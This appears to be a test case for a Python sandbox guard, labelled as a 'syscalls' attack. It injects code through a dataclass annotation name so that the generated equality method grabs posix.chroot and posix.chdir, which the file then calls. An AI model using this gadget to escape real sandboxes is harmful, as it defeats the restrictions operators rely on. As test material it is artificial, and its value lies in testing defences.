# category: syscalls
# attack: posix.chdir/chroot/unshare via a gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "posix", "a": box,
    "__annotations__": {"a,self.a.append(chroot),self.a.append(chdir)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
box[1]("/")
box[0]("/tmp")
